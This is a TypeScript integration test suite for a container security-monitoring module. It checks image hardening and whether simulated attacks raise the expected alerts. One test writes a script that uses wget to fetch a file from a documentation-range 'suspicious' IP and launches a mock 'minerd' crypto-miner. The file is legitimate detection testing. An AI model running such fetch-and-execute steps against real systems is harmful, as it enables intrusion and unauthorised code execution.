/**
 * What an operator does, on a real engine: build the image, push deployment.template.json, and see. Every deed of
 * `attacks/` is done on the host outside the container; what arrives at `$upstream` must be what docs/deployment.md
 * says of that way to run. `npm run test:deployed` judges all ways, the suite of CI the first two.
 */
import { readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Attack } from "./attack.ts";
import { auditFree } from "./deployed/audit-free.ts";
import { importBaseImages } from "./deployed/base-images.ts";
import { buildImage, layersOf, moduleImage, sizeOf } from "./deployed/build-image.ts";
import { type DeployedModule, type Memory, startDeployedModule } from "./deployed/deployed-module.ts";
import { documented, type Variant, variants } from "./deployed/variants.ts";
import { eventually } from "./rig/host/child.ts";
import { busyboxImage, type DockerEngine, startDockerEngine } from "./rig/host/docker-engine.ts";
import { ask, removeContainer } from "./rig/host/engine-api.ts";
import { hostLists, type RunningHost, startHost } from "./rig/host/host.ts";
import { lockHost } from "./rig/host/host-lock.ts";
import { loopbackAddress } from "./rig/host/loopback-address.ts";
import { lackingAny, needNames, strict } from "./rig/host/needs.ts";

const folder = join(import.meta.dirname, "attacks");
const attacks = await Promise.all(
  readdirSync(folder).map(async (file) => (await import(join(folder, file))).attack as Attack),
);
const unmet = lackingAny(needNames);
const judged = process.env.VEDETTE_DEPLOYED === "all" ? variants : variants.slice(0, 2);
/** A promised alert is given this long to arrive, ms; one that may not come, the shorter time. */
const patience = 20_000;
const impatience = 4_000;
/** Known only to the deed inside a container, as the host's own are no news any more. */
const pumpSource = "203.0.113.68";
/** Another suite may have the host, ms. */
const waiting = 420_000;

describe.skipIf(unmet !== undefined && !strict)(`the image as deployed${unmet ? ` (${unmet})` : ""}`, () => {
  let engine: DockerEngine;

  beforeAll(async () => {
    if (unmet) throw new Error(`skips are forbidden: ${unmet}`);
    const lock = await lockHost(waiting);
    try {
      engine = await startDockerEngine();
      await importBaseImages(engine);
      await buildImage(engine);
    } finally {
      await lock.stop();
    }
  }, waiting + 60_000);

  afterAll(() => engine?.stop());

  test("is small, runs as nobody's root by default, and is the same when built again", async () => {
    const { own, base } = await sizeOf(engine);
    console.log(`image: ${(own / 1e6).toFixed(1)} MB of its own layers, upon ${(base / 1e6).toFixed(0)} MB of base`);
    expect(own).toBeLessThan(8e6);
    expect(await engine.docker("image", "inspect", "-f", "{{.Config.User}}", moduleImage)).toBe("1000:1000\n");
    await buildImage(engine, "again", "--no-cache");
    expect(await layersOf(engine, "again")).toEqual(await layersOf(engine));
  });

  test("carries the library that reads the kernel's audit", async () => {
    const script =
      'import("/app/node_modules/koffi/index.js").then((k) => console.log(k.load("libc.so.6").func("int getpid()")()))';
    const output = await engine.docker(
      "run",
      "--rm",
      "--network=none",
      "--read-only",
      "--entrypoint=node",
      moduleImage,
      "-e",
      script,
    );
    expect(output).toBe("1\n");
  });

  describe.each(judged.map((variant) => [variant.column, variant] as const))("%s", (_, variant) => {
    let host: RunningHost;
    let module: DeployedModule;
    const arrived: string[] = [];
    let memory: Memory | undefined;
    let address: Awaited<ReturnType<typeof loopbackAddress>> | undefined;
    const said = documented(variant);

    beforeAll(
      async () => {
        const lock = await lockHost(waiting);
        await auditFree(waiting).catch((error) => lock.stop().then(() => Promise.reject(error)));
        host = await startHost(
          { threatLists: { ...hostLists, pump: { entries: { a: pumpSource } } } },
          {
            docker: engine,
            lock,
            ...(!variant.auditd && { auditd: false }),
            awaited: [...auditSource(variant), "auth-log", "docker-events", "accounts"],
            startModule: async (options) => {
              module = await startDeployedModule({ ...options, ...variant, engine });
              return module;
            },
          },
        );
        address = await loopbackAddress(pumpSource);
      },
      2 * waiting + 60_000,
    );

    afterAll(async () => {
      console.log(table(variant, arrived, memory), sources(module));
      await address?.stop();
      await host?.stop();
    });

    test("has no privilege, nothing writable of the host's, a read-only root, and limits", async () => {
      const { HostConfig, Mounts } = await module.inspect();
      expect(HostConfig).toMatchObject({
        Privileged: false,
        ReadonlyRootfs: true,
        CapDrop: expect.arrayContaining(["ALL"]),
      });
      expect(HostConfig.SecurityOpt).toContain("no-new-privileges:true");
      expect(HostConfig.Devices ?? []).toEqual([]);
      expect(HostConfig.Memory).toBeGreaterThan(0);
      expect(HostConfig.PidsLimit).toBeGreaterThan(0);
      if (!variant.elevated) expect(HostConfig.CapAdd ?? []).toEqual([]);
      // The workload socket is edgeAgent's own mount, into every module.
      const writable = Mounts.filter(({ RW }) => RW).map(({ Type, Destination }) => `${Type} ${Destination}`);
      expect(writable.sort()).toEqual(["bind /var/run/iotedge/workload.sock", "volume /data"]);
    });

    test.each(attacks.map((attack) => [attack.alert, attack] as const))("%s", async (alert, attack) => {
      const promised = said.get(alert);
      host.renew();
      await attack.prepare?.(host);
      const since = module.findings.length;
      try {
        await attack.perform(host);
        const fits = (finding: Parameters<NonNullable<Attack["expect"]>>[0]) => attack.expect?.(finding, host) ?? true;
        const within = promised === "yes" ? (attack.within ?? patience) : impatience;
        const found = await module.next(alert, fits, since, within).catch((error: Error) => error);
        if (!(found instanceof Error)) arrived.push(alert);
        if (promised === "yes" && found instanceof Error) throw found;
        if (promised !== "luck") expect(found instanceof Error ? "no" : "yes").toBe(promised);
      } finally {
        await attack.undo?.(host);
      }
    });

    const judgedIf = (kept: boolean) => (kept ? test : () => undefined);

    judgedIf(variant.auditd)("names the module in whose container a deed was done", async () => {
      host.renew();
      const name = `pump-${host.word}`;
      host.downloads.put(`/${host.word}`, "#!/bin/sh\nsleep 1\n");
      const url = `http://${pumpSource}:${host.downloads.port}/${host.word}`;
      // In a file: the host's own docker client is not to name the deed.
      const script = (name: string, text: string) =>
        writeFileSync(join(host.directory, name), `#!/bin/sh\n${text}\n`, { mode: 0o755 });
      script("minerd", "sleep 1");
      script("deeds.sh", `wget -q -O /tmp/update ${url}; /deeds/minerd`);
      await startModuleContainer(engine, name, host.directory);
      try {
        await engine.docker("exec", name, "sh", "/deeds/deeds.sh");
        for (const alert of ["suspicious-ip", "malicious-source-download", "crypto-miner-process"]) {
          const inside = (f: { evidences: readonly { container?: { name?: string } }[] }) =>
            f.evidences.some((e) => e.container?.name === name);
          const found = await module.next(alert, inside);
          const container = found.evidences.find((e) => e.container)?.container;
          expect(container).toMatchObject({ name, tags: [{ name: "module", value: name }] });
        }
      } finally {
        await removeContainer(engine.socket, name);
      }
    });

    judgedIf(variant.elevated)("raises at least 35 of the 39", () => {
      expect(arrived.length).toBeGreaterThanOrEqual(35);
    });

    test("stays within its memory limit under all of it", async () => {
      memory = await module.memory();
      expect(memory.kept).toBeLessThan(0.75 * ((await module.inspect()).HostConfig.Memory as number));
    });

    test("ends with 0 at edgeAgent's stop and comes back on its data", async () => {
      expect(await module.halt()).toBe(0);
      await module.resume();
    });

    test("is started again by its restart policy when it dies", async () => {
      const before = module.restarts;
      process.kill(module.pid, "SIGKILL");
      await eventually("edgeAgent starts it again", () => module.restarts > before, 20_000);
      await eventually("it connects again", () => module.rig.connected.includes("vedette"), 20_000);
    });
  });
});

/** Another module of the device, as edgeAgent labels it, on the host's network. */
async function startModuleContainer({ socket }: DockerEngine, name: string, deeds: string): Promise<void> {
  await ask(socket, "POST", `/containers/create?name=${name}`, {
    Image: busyboxImage,
    Cmd: ["sleep", "60"],
    Labels: { "net.azure-devices.edge.owner": "Microsoft.Azure.Devices.Edge.Agent" },
    HostConfig: { NetworkMode: "host", Binds: [`${deeds}:/deeds:ro`] },
  });
  await ask(socket, "POST", `/containers/${name}/start`);
}

function table({ column }: Variant, arrived: readonly string[], memory?: Memory): string {
  const rows = attacks.map(({ alert }) => `${alert.padEnd(30)} ${arrived.includes(alert) ? "yes" : "–"}`);
  const mega = (bytes = 0) => `${(bytes / 1e6).toFixed(0)} MB`;
  const used = `${mega(memory?.resident)} resident, ${mega(memory?.kept)} of it not to be reclaimed`;
  return `${column}: ${arrived.length} of ${attacks.length} alerts, ${used}\n${rows.join("\n")}`;
}

/** What the module says of its own sources. */
function sources(module: DeployedModule | undefined): string {
  const reported = (module?.rig.reported.sources ?? {}) as Record<string, { state: string; reason: string }>;
  const lines = Object.entries(reported).map(([name, { state, reason }]) => `${name}: ${state} ${reason}`);
  return `\n${lines.join("\n")}`;
}

/** Without auditd and with the right, the module reads the kernel's audit itself. */
function auditSource({ auditd, elevated }: Variant): readonly string[] {
  if (auditd) return ["audit-log"];
  return elevated ? ["audit-netlink"] : [];
}
